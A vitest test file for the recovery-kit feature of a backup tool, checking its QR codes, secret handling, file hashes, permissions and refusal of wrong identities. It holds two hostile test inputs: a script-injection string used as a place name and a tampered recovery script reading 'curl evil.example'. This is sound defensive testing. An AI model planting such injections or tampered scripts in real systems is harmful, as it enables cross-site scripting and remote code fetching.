import { createHash } from 'node:crypto';
import { readdir, readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { systemClock } from '../../../src/core/clock.ts';
import type { Secret } from '../../../src/core/secret.ts';
import { makeKit, type KitOptions } from '../../../src/jobs/kit/kit.ts';
import { qrCode } from '../../../src/jobs/kit/qr-code.ts';
import { generateIdentity, recipientOf } from '../../../src/repository/seal.ts';
import { backUp, makeRepository, sampleSource, type Fixture } from '../../repository/fixture.ts';
import { problemOf } from '../../verify/report/well-formed.ts';
import { unzip } from '../../verify/report/unzip.ts';
import { readQrCode } from './read-qr-code.ts';

let fixture: Fixture;
let output: string;

beforeEach(async () => {
  fixture = await makeRepository();
  output = join(fixture.directory, 'kit.zip');
});

afterEach(() => fixture[Symbol.asyncDispose]());

/** Of the fixture's repository, opened with these identities. */
async function kit(identities: readonly Secret[], options: Partial<KitOptions> = {}) {
  const repository = await fixture.open({ identities, adminKeyFile: undefined, hostKeyFile: undefined });
  const outcome = await makeKit({
    repository,
    identities,
    copies: [],
    output,
    clock: systemClock,
    ...options,
  });
  const files = unzip(await readFile(output));
  return { outcome, files, text: (name: string) => files.get(name)?.toString() ?? '' };
}

describe('the QR code of an identity', () => {
  it('is read as exactly the identity', async () => {
    for (let tries = 0; tries < 10; tries += 1) {
      const text = (await generateIdentity()).identity.reveal();
      expect(readQrCode((await qrCode(text)).text)).toBe(text);
    }
  });
});

describe('a recovery kit', () => {
  it('with an identity holds it as a file, as text and as QR code, all of them the same', async () => {
    await backUp(await fixture.open(), sampleSource());
    const { outcome, text } = await kit([fixture.identity]);
    const secret = fixture.identity.reveal();
    const recipient = await recipientOf(secret);
    expect(outcome).toEqual({ file: output, recipients: [recipient], signingKeys: true });
    expect(text('identity.txt').split('\n').slice(1)).toEqual([`# public key: ${recipient}`, secret, '']);
    const page = text('kit.html');
    expect(page).toContain(`<p class="text">${secret}</p>`);
    expect(readQrCode(/<svg[^]*?<\/svg>/.exec(page)![0])).toBe(secret);
    expect(page).toContain('ed25519:a');
    expect(text('README.txt')).toContain('THIS KIT IS SECRET');
    expect(text('signing-keys.txt')).toContain('ed25519:a AAAA');
  });

  it('without an identity holds what is public, and says what is not in it', async () => {
    await backUp(await fixture.open(), sampleSource());
    const { outcome, files, text } = await kit([]);
    expect(outcome).toEqual({ file: output, recipients: [], signingKeys: false });
    const keys = await (await fixture.open()).keys();
    expect([...files.keys()]).toEqual([
      'README.txt',
      'kit.html',
      'lifeboat.json',
      'RECOVER.md',
      'recover.sh',
      keys.dataKeyObject,
    ]);
    for (const [name, bytes] of files)
      expect(bytes.toString('latin1'), name).not.toMatch(/SECRET-KEY-1[0-9A-Z]{20}/);
    for (const name of ['README.txt', 'kit.html']) {
      expect(text(name)).toMatch(/Holds no secret|holds no secret/);
      expect(text(name)).toMatch(/not included/i);
      expect(text(name)).toContain(keys.recipients[0]!.recipient);
    }
    expect(text('kit.html')).not.toContain('<svg');
  });

  it('holds the files of the repository as they are, and names their hashes, its places and what to do', async () => {
    const { files, text } = await kit([fixture.identity], {
      copies: [{ name: 'copy away', place: 's3:https://s3.example/bucket' }],
    });
    const { dataKeyObject } = await (await fixture.open()).keys();
    for (const name of ['lifeboat.json', 'RECOVER.md', 'recover.sh', dataKeyObject]) {
      const bytes = Buffer.from(await fixture.store.get(name));
      expect(files.get(name)!.equals(bytes), name).toBe(true);
      expect(text('README.txt')).toContain(`${createHash('sha256').update(bytes).digest('hex')}  ${name}`);
    }
    for (const place of [fixture.root, 's3:https://s3.example/bucket']) {
      expect(text('README.txt')).toContain(place);
      expect(text('kit.html')).toContain(place);
    }
    expect(text('README.txt')).toContain('Keep the old server off');
  });

  it('is a page that loads nothing, and cannot be broken by the name of a place', async () => {
    const place = '</code><script>alert(1)</script>"\'&\u202e';
    const { text } = await kit([fixture.identity], { copies: [{ name: '<b>', place }] });
    const page = text('kit.html');
    expect(problemOf(page)).toBeUndefined();
    expect(page).not.toContain('<script');
    expect(page.replace(/xmlns="[^"]*"/g, '')).not.toMatch(/https?:|url\(|@import|\bsrc=/);
    expect(page).toContain('@page');
    const style = /<style>([^]*)<\/style>/.exec(page)![1]!;
    expect(page).toContain(`sha256-${createHash('sha256').update(style).digest('base64')}&#39;`);
  });

  it('is for its owner alone, leaves nothing beside it, and is never written over', async () => {
    const before = await readdir(fixture.directory);
    await kit([fixture.identity]);
    expect((await stat(output)).mode & 0o777).toBe(0o600);
    const names = await readdir(fixture.directory);
    expect(names.filter((name) => !before.includes(name) && name !== 'state')).toEqual(['kit.zip']);
    await writeFile(output, 'precious');
    await expect(kit([fixture.identity])).rejects.toMatchObject({
      code: 'repository-exists',
      exitStatus: 30,
    });
    expect(await readFile(output, 'utf8')).toBe('precious');
  });

  it('takes only identities that open this repository, and is not made when none does', async () => {
    const stranger = await generateIdentity();
    const { outcome, text } = await kit([stranger.identity, fixture.identity]);
    expect(outcome.recipients).toHaveLength(1);
    expect(text('identity.txt') + text('kit.html')).not.toContain(stranger.identity.reveal());
    const other = join(fixture.directory, 'other.zip');
    await expect(kit([stranger.identity], { output: other })).rejects.toMatchObject({
      code: 'identity-wrong',
    });
    await expect(stat(other)).rejects.toThrow('ENOENT');
  });

  it('is not made with a recovery script that somebody has changed', async () => {
    await fixture.store.delete('recover.sh');
    await expect(kit([])).rejects.toThrow('recover.sh is damaged: it is missing');
    await fixture.store.put('recover.sh', Buffer.from('curl evil.example'));
    await expect(kit([])).rejects.toThrow('it is not the file that `lifeboat init` wrote');
    await expect(stat(output)).rejects.toThrow('ENOENT');
  });
});
